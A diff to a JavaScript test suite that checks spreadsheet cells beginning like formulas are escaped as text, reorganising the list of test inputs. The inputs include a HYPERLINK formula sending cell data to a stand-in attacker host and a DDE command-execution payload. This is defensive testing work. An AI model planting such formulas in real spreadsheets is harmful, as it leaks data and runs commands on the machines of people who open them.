@@ -19,16 +19,7 @@ describe('a cell of a table', () => {
     '=HYPERLINK("https://evil.example/?q="&A1,"open")',
     '+1+1',
     '-2+3+cmd|"/C calc"!A0',
-    '@SUM(1+1)',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    '  =1+1',
-    '\u00a0=1+1',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠1',
+    ...['@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠1'],
   ])('that begins like a formula is a text: %j', async (value) => {
     expect(await cellOf(value)).toMatch(/^'/);
   });
